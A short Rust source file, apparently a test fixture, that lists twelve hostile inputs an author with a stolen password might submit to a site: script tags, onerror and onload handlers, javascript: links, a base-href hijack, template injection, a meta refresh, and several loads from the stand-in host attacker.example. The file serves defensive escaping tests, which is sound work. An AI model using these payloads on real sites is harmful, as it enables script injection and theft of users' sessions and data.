//! What an author, or somebody with his password, may try.

/// What stands in for the texts, one after the other.
pub(crate) const ATTACKS: [&str; 12] = [
    "<script>alert('a')</script>",
    "<img src=https://attacker.example/b onerror=alert('b')>",
    "\"><svg onload=alert('c')>",
    "'><iframe src=https://attacker.example/d></iframe>",
    "</title></style></script><script src=https://attacker.example/e></script>",
    "javascript:alert('f')",
    "<!-- --><base href=https://attacker.example/>",
    "]]><style>*{background:url(https://attacker.example/h)}</style>",
    "&lt;script&gt;alert('i')&lt;/script&gt;",
    "<a href=\"javascript:alert('j')\">click</a>",
    "{{constructor.constructor('alert(1)')()}} ${alert('k')}",
    "<meta http-equiv=refresh content='0;url=https://attacker.example/l'>\u{202e}",
];
